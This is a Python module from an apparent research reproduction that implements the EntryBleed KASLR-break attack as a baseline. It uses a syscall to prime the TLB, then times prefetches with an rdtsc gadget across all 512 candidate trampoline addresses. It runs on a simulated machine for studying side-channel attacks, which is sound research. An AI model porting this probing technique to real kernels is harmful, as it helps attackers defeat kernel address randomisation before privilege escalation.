"""EntryBleed (Liu, Ravichandran & Yan, 2023) -- the §2.1 related attack.

EntryBleed breaks KASLR *under KPTI* by abusing the exempted pages of
user/kernel isolation: a syscall executes the KPTI trampoline, leaving
its translation hot in the TLB; a user-mode ``prefetch`` of each
candidate trampoline address is then fast exactly at the real one (TLB
hit) and slow everywhere else (page walk).  Whisper's point of contrast
(§2.1): EntryBleed depends on the *specific* ``prefetch`` instruction and
the syscall residue, while TET-KASLR needs only behavioural timing of an
ordinary faulting access.

Implemented here as the natural baseline to compare probe costs and
mitigation surfaces against TET-KASLR.
"""

from __future__ import annotations

from typing import Dict

from repro.kernel.layout import (
    KASLR_SLOTS,
    KASLR_UNMAPPED_REFERENCE,
    KPTI_TRAMPOLINE_OFFSET,
    slot_base,
)
from repro.whisper.analysis import kaslr_decision
from repro.whisper.attacks.kaslr import KaslrBreakResult


class EntryBleedKaslr:
    """Syscall + prefetch-timing KASLR probing."""

    def __init__(self, machine) -> None:
        self.machine = machine
        self.program = machine.load_program("""
    mfence
    rdtsc
    mov r14, rax
    prefetch [r13]
    rdtsc
    mov r15, rax
    hlt
""")

    def probe_latency(self, va: int) -> int:
        """Syscall-primed double-prefetch timing of candidate *va*.

        The first prefetch warms the page-table cache lines (its walk is
        discarded); the timed second prefetch then isolates the TLB
        state: a hit at the real trampoline (refilled by the syscall),
        a uniform warm walk everywhere else."""
        self.machine.flush_tlb()
        self.machine.do_syscall()  # leaves the real trampoline hot
        self.machine.run(self.program, regs={"r13": va})
        result = self.machine.run(self.program, regs={"r13": va})
        return result.regs.read("r15") - result.regs.read("r14")

    def break_kaslr(self) -> KaslrBreakResult:
        """Scan the 512 candidate trampoline addresses."""
        start_cycle = self.machine.core.global_cycle
        for _ in range(3):  # warm the gadget code
            self.probe_latency(KASLR_UNMAPPED_REFERENCE)
        totes: Dict[int, int] = {}
        for slot in range(KASLR_SLOTS):
            totes[slot] = self.probe_latency(slot_base(slot) + KPTI_TRAMPOLINE_OFFSET)
        threshold, mapped, found = kaslr_decision(totes)
        cycles = self.machine.core.global_cycle - start_cycle
        return KaslrBreakResult(
            found_base=found,
            true_base=self.machine.kernel.layout.base,
            strategy="entrybleed-baseline",
            probes=KASLR_SLOTS,
            cycles=cycles,
            seconds=self.machine.seconds(cycles),
            threshold=threshold,
            totes_by_slot=totes,
            mapped_slots=mapped,
        )
